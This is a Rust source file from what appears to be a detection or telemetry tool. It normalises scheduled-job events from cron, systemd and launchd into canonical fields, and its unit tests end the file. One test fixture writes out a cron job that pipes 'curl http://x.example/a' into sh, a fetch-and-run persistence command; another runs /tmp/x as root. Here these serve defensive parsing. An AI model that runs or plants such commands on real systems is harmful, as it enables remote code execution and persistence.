/*!
What schedulers and tables of jobs say of a job, which has its facts in fields
of its own.
*/

use super::facts::{Activity, Interface, Jobs, Scheduler};
use super::traits::Trait;
use super::{account, action, definition, file, table};
use crate::derive::canonical::command::{Commands, System};
use crate::derive::canonical::notes::Notes;
use crate::derive::canonical::path;
use crate::event::{Event, Field, Platform};

/// The schedulers that an event may name.
const SCHEDULERS: [Scheduler; 7] = [
    Scheduler::Cron,
    Scheduler::Anacron,
    Scheduler::Incron,
    Scheduler::Fcron,
    Scheduler::At,
    Scheduler::Systemd,
    Scheduler::Launchd,
];

/// Tells the job of an event.
pub(crate) fn read(
    event: &Event<'_>,
    commands: &mut Commands,
    jobs: &mut Jobs,
) {
    let text = |field| event.get(field).filter(|text| !text.is_empty());
    let done = text(Field::Activity);
    let activity = Activity::ALL
        .iter()
        .find(|activity| done == Some(activity.name().as_bytes()));
    if let Some(activity) = activity {
        jobs.say(Field::JobActivity, activity.name());
    }
    if activity == Some(&Activity::Start) {
        jobs.say(Field::JobTrait, Trait::Ran.name());
    }
    let arena = &mut commands.arena;
    let definition = text(Field::TargetFilename).map(|file| {
        let file = arena.add(file);
        path::unix(file, None, arena, &mut Notes::default())
    });
    let known = definition.and_then(|file| file::unix(arena.get(file)));
    let named = text(Field::Scheduler);
    let scheduler = SCHEDULERS
        .into_iter()
        .find(|scheduler| named == Some(scheduler.name().as_bytes()))
        .or(known.map(|known| known.scheduler))
        .unwrap_or(match event.platform {
            Platform::Macos => Scheduler::Launchd,
            _ if is_unit(text(Field::TaskName)) => Scheduler::Systemd,
            _ => Scheduler::Cron,
        });
    jobs.say(Field::JobScheduler, scheduler.name());
    // Who is told that a job starts has heard it of the scheduler.
    let interface = match definition {
        Some(_) => Some(Interface::File),
        None if activity == Some(&Activity::Start) => None,
        None if scheduler == Scheduler::Cron => Some(Interface::Crontab),
        None => None,
    };
    if let Some(interface) = interface {
        jobs.say(Field::JobInterface, interface.name());
    }
    let name = text(Field::TaskName).map(|name| arena.add(name));
    let in_file =
        definition.zip(known).map(|(file, known)| file.after(known.name));
    if let Some(name) = name.or(in_file) {
        jobs.write(Field::JobName, name);
    }
    if let Some(file) = definition {
        jobs.write(Field::JobFile, file);
    }
    let schedule = text(Field::Schedule).map(|text| arena.add(text));
    let trigger = schedule.and_then(|text| table::schedule(text, arena));
    let trigger = trigger.or(known.and_then(|known| known.trigger));
    if let Some(trigger) = trigger {
        jobs.say(Field::JobTrigger, trigger.name());
    }
    if let Some(user) = text(Field::RunAs) {
        let user = arena.add(user);
        account::push(user, System::Unix, arena, jobs);
    }
    if let Some(line) = text(Field::CommandLine) {
        let line = arena.add(line);
        action::push_shell(commands, line, definition::outermost(), jobs);
    }
    jobs.end();
}

/// Whether a name is that of a unit of systemd's that may run by schedule.
fn is_unit(name: Option<&[u8]>) -> bool {
    name.is_some_and(|name| {
        name.ends_with(b".timer") || name.ends_with(b".service")
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::derive::job::event::read;
    use crate::event::JobRecord;

    fn told(event: &Event<'_>) -> String {
        let mut commands = Commands::default();
        let mut jobs = Jobs::default();
        read(event, &mut commands, &mut jobs);
        assert_eq!(jobs.len(), 1);
        jobs.shown(0, &commands.arena)
    }

    #[test]
    fn facts_stand_in_fields() {
        let start = JobRecord {
            activity: Some(b"start"),
            scheduler: Some(b"cron"),
            run_as: Some(b"root"),
            command_line: Some(b"/tmp/x -q"),
            ..Default::default()
        };
        assert_eq!(
            told(&Event::linux(start)),
            "Activity=start|Trait=ran|Scheduler=cron|User=root|Command=/tmp/x|Arguments=-q"
        );
        let replaced = JobRecord {
            activity: Some(b"update"),
            scheduler: Some(b"cron"),
            run_as: Some(b"ann"),
            ..Default::default()
        };
        assert_eq!(
            told(&Event::linux(replaced)),
            "Activity=update|Scheduler=cron|Interface=crontab|User=ann"
        );
        let row = JobRecord {
            target_filename: Some(b"/etc/cron.d/x"),
            schedule: Some(b"*/5 * * * *"),
            command_line: Some(b"curl http://x.example/a | sh"),
            run_as: Some(b""),
            ..Default::default()
        };
        assert_eq!(
            told(&Event::linux(row)),
            "Scheduler=cron|Interface=file|Name=x|File=/etc/cron.d/x|Trigger=minute|Command=curl|Arguments=http://x.example/a|Trait=command_reads_pipe|Command=sh|Arguments="
        );
        let item = JobRecord {
            activity: Some(b"create"),
            task_name: Some(b"com.x"),
            target_filename: Some(b"/Library/LaunchDaemons/com.x.plist"),
            command_line: Some(b"/tmp/x"),
            ..Default::default()
        };
        assert_eq!(
            told(&Event::macos(item)),
            "Activity=create|Scheduler=launchd|Interface=file|Name=com.x|File=/Library/LaunchDaemons/com.x.plist|Command=/tmp/x|Arguments="
        );
        let unit = JobRecord {
            activity: Some(b"other"),
            task_name: Some(b"x.timer"),
            ..Default::default()
        };
        assert_eq!(
            told(&Event::linux(unit)),
            "Scheduler=systemd|Name=x.timer"
        );
    }
}
